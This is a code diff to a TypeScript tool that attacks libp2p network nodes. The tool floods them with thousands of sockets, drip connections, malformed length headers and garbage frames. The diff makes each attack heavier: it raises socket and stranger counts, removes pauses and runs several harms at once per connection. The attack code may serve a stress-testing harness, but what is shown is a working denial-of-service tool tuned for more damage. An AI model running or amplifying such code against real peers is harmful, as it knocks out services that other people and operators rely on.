@@ -5,7 +5,7 @@
  */
 import { randomBytes } from 'node:crypto';
 import { connect, type Socket } from 'node:net';
-import { setPriority } from 'node:os';
+import { constants, setPriority } from 'node:os';
 import { noise } from '@chainsafe/libp2p-noise';
 import { yamux } from '@chainsafe/libp2p-yamux';
 import type { Connection, MultiaddrConnection } from '@libp2p/interface';
@@ -29,10 +29,14 @@ export interface AttackTask {
 const ATTACKS = { connections, drips, lengths, garbage };
 export type AttackName = keyof typeof ATTACKS;
 
-const OPEN_SOCKETS = 2_000;
-const DRIPPING = 400;
-const DRIP_MILLIS = 250;
-const STRANGERS = 6;
+const OPEN_SOCKETS = 4_000;
+/** Sockets opened before others have a turn. */
+const SOCKETS_AT_ONCE = 50;
+const DRIPPING = 1_000;
+const DRIP_MILLIS = 100;
+const STRANGERS = 16;
+/** What one stranger does on one connection, all without waiting for an answer. */
+const HARMS_AT_ONCE = 8;
 const REPORT_MILLIS = 1_000;
 const MULTISTREAM = Buffer.from('\x13/multistream/1.0.0\n');
 
@@ -55,13 +59,13 @@ function open(): Socket {
 async function connections(): Promise<void> {
   const sockets = new Set<Socket>();
   for (;;) {
-    for (let i = 0; i < 10 && sockets.size < OPEN_SOCKETS; i++) {
+    for (let i = 0; i < SOCKETS_AT_ONCE && sockets.size < OPEN_SOCKETS; i++) {
       const socket = open();
       sockets.add(socket);
       socket.on('connect', () => harms++);
       socket.on('close', () => sockets.delete(socket));
     }
-    await pause(10);
+    await pause(1);
   }
 }
 
@@ -69,7 +73,7 @@ async function connections(): Promise<void> {
 async function drips(): Promise<void> {
   await Promise.all(
     Array.from({ length: DRIPPING }, async (_, i) => {
-      await pause(i * 5);
+      await pause(i);
       for (;;) {
         const socket = open();
         harms++;
@@ -91,12 +95,10 @@ async function lengths(): Promise<void> {
       const { muxer } = connection as unknown as { muxer: { maConn: MultiaddrConnection } };
       const header = Buffer.from('000000010000000bffffffff', 'hex');
       muxer.maConn.send(header);
-      await pause(50);
       return;
     }
     const stream = await connection.newStream(pick(PROTOCOLS, random));
     stream.send(Buffer.concat([Buffer.from('ffffffff', 'hex'), randomBytes(60_000)]));
-    await pause(50);
   });
 }
 
@@ -123,7 +125,6 @@ async function garbage(): Promise<void> {
         ? Buffer.concat([Uint8Array.of(between(0, 6, random)), await greeting()])
         : noiseBytes();
     stream.send(frame(body));
-    await pause(20);
     if (random() < 0.5) stream.abort(new Error('enough'));
   });
 }
@@ -163,9 +164,12 @@ async function asStrangers(harm: (connection: Connection) => Promise<void>): Pro
         const node = await stranger();
         try {
           const connection = await node.dial(multiaddr(pick(targets, random)));
-          for (let i = 0; i < 40 && connection.status === 'open'; i++) {
-            await harm(connection);
-            harms++;
+          while (connection.status === 'open') {
+            const some = Array.from({ length: HARMS_AT_ONCE }, () => harm(connection));
+            for (const { status } of await Promise.allSettled(some)) {
+              if (status === 'fulfilled') harms++;
+            }
+            await pause(0);
           }
         } catch {
           await pause(20);
@@ -190,7 +194,7 @@ function stranger(): Promise<Libp2p> {
 process.on('unhandledRejection', () => {});
 process.on('uncaughtException', () => {});
 // The machine is shared with those who are attacked, who would have theirs to themselves.
-setPriority(10);
+setPriority(constants.priority.PRIORITY_LOW);
 process.on('disconnect', () => process.exit());
 setInterval(() => process.send?.(harms), REPORT_MILLIS);
 process.send?.(harms);
